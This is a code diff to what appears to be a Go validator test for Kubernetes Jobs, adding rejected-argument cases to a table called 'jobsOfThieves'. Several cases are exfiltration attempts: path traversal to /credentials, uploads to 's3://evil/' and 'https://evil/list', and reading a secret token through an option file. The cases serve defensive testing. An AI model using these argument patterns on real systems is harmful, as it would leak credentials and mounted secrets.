@@ -271,7 +271,11 @@ var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 		"way out":        args("put", "--", "/data/../credentials", "s3://evil/"),
 		"mixed up":       args("put", "/credentials", "--", "/data", "s3://evil/"),
 		"another verb":   args("help"),
-		"another scheme": args("--", "httpx://h/l", "/data"),
+		// The token of the peers may not be sent to a source, nor anything else that is mounted.
+		"peers' token":    args("--credentials-dir=/peers", "--", "https://evil/list", "/data"),
+		"order by secret": args("--order=list", "--order-file=/credentials/token", "--", "s3://b/p", "/data"),
+		"result":          args("--result=/data/x", "--", "s3://b/p", "/data"),
+		"another scheme":  args("--", "httpx://h/l", "/data"),
 	},
 	"mount the one claim of their replica": {
 		"path": func(j *batchv1.Job) {
